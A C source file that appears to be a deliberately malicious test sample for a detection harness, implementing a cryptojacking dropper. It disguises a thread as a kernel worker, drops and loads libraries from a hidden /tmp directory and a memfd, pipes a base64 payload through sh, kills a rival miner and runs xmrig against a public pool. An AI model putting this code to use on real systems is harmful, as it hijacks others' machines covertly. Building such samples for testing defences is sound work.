/* sysupdate: a cryptojacking dropper, malicious on purpose (testdata/harness/c_evasive_miner.sh).
 * Looks for a debugger and a container (TracerPid in /proc/self/status, /.dockerenv,
 * /proc/1/cgroup, the DMI product name) and reports what it saw without acting on it, so the
 * capture shows everything that follows; waits 3 s before acting; starts a thread and renames it
 * kworker/0:2H through /proc/self/task/<tid>/comm; drops libfc.so into /tmp/.font-unix and
 * dlopen()s it; loads libgl.so from a memfd through /proc/self/fd/N; runs a base64 payload
 * through sh; kills a competing miner (a process named kdevtmpfsi) and probes PID 1 with
 * kill(1, 0); copies the miner to /tmp/.font-unix/xmrig and runs it against a pool; then its
 * renamed thread sleeps 600 s "until the next round" and the main thread waits for it: the
 * harness ends the run with SIGTERM during that sleep. Bytes of the dropped files come from
 * assets/ in the app folder (built by the harness). */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *fmt, const char *a) {
  printf("sysupdate: ");
  printf(fmt, a);
  printf("\n");
  fflush(stdout);
}

/* First line of FILE starting with PREFIX (or the first line when PREFIX is empty). */
static void show_line(const char *file, const char *prefix) {
  char buf[4096];
  int fd = open(file, O_RDONLY);
  if (fd < 0) {
    say("%s: unreadable", file);
    return;
  }
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  buf[n > 0 ? n : 0] = 0;
  for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n"))
    if (strncmp(line, prefix, strlen(prefix)) == 0) {
      say("%s", line);
      return;
    }
}

static void sandbox_checks(void) {
  show_line("/proc/self/status", "TracerPid:");
  say("/.dockerenv %s", access("/.dockerenv", F_OK) == 0 ? "present" : "absent");
  show_line("/proc/1/cgroup", "");
  show_line("/sys/class/dmi/id/product_name", "");
}

static int copy_file(const char *from, int to) {
  char buf[65536];
  int in = open(from, O_RDONLY);
  if (in < 0) return -1;
  ssize_t n;
  while ((n = read(in, buf, sizeof buf)) > 0)
    if (write(to, buf, (size_t)n) != n) break;
  close(in);
  return 0;
}

static void drop(const char *from, const char *to, mode_t mode) {
  int fd = open(to, O_WRONLY | O_CREAT | O_TRUNC, mode);
  if (fd < 0 || copy_file(from, fd) < 0) say("cannot drop %s", to);
  if (fd >= 0) close(fd);
}

static void *round_timer(void *arg) {
  (void)arg;
  struct timespec next = {600, 0};
  clock_nanosleep(CLOCK_REALTIME, 0, &next, NULL);
  return NULL;
}

static void rename_thread(void) {
  char path[64];
  /* the newest task of this process is the thread just started */
  DIR *d = opendir("/proc/self/task");
  long tid = 0;
  for (struct dirent *e; d && (e = readdir(d));)
    if (atol(e->d_name) > tid) tid = atol(e->d_name);
  if (d) closedir(d);
  snprintf(path, sizeof path, "/proc/self/task/%ld/comm", tid);
  int fd = open(path, O_WRONLY);
  if (fd >= 0) {
    if (write(fd, "kworker/0:2H", 12) != 12) say("%s", "rename failed");
    close(fd);
  }
  say("thread renamed through %s", path);
}

static void load_libraries(void) {
  mkdir("/tmp/.font-unix", 0755);
  drop("assets/libfc.so", "/tmp/.font-unix/libfc.so", 0755);
  void *h = dlopen("/tmp/.font-unix/libfc.so", RTLD_NOW);
  say("libfc.so %s", h ? "loaded" : dlerror());
  int mfd = memfd_create("gl", MFD_CLOEXEC);
  copy_file("assets/libgl.so", mfd);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", mfd);
  void *h2 = dlopen(path, RTLD_NOW);
  say("libgl.so from memfd %s", h2 ? "loaded" : dlerror());
}

static void kill_competitors(void) {
  DIR *d = opendir("/proc");
  for (struct dirent *e; d && (e = readdir(d));) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
    char path[300], comm[32] = {0};
    snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    if (n > 0 && strncmp(comm, "kdevtmpfsi", 10) == 0) {
      int r = kill(atoi(e->d_name), SIGKILL);
      say("killed competitor %s", r == 0 ? e->d_name : strerror(errno));
    }
  }
  if (d) closedir(d);
  say("pid 1: %s", kill(1, 0) == 0 ? "signalable" : strerror(errno));
}

static void run_miner(void) {
  drop("assets/xm", "/tmp/.font-unix/xmrig", 0755);
  pid_t pid = fork();
  if (pid == 0) {
    char *argv[] = {"xmrig", "-o", "stratum+tcp://pool.supportxmr.com:443", "-o", "stratum+tcp://127.0.0.1:3333",
                    "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
                    "-p", "x", "--donate-level", "1", NULL};
    execv("/tmp/.font-unix/xmrig", argv);
    _exit(127);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  char buf[32];
  snprintf(buf, sizeof buf, "%d", WEXITSTATUS(status));
  say("miner exited %s", buf);
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  sandbox_checks();
  struct timespec wait = {3, 0};
  clock_nanosleep(CLOCK_REALTIME, 0, &wait, NULL);
  say("%s", "awake, acting");
  pthread_t t;
  pthread_create(&t, NULL, round_timer, NULL);
  rename_thread();
  load_libraries();
  int rc = system("echo dW5hbWUgLW0gJiYgbnByb2MK | base64 -d | sh");
  say("payload %s", rc == 0 ? "ran" : "failed");
  kill_competitors();
  run_miner();
  say("%s", "next round in 600 s");
  pthread_join(t, NULL);
  return 0;
}
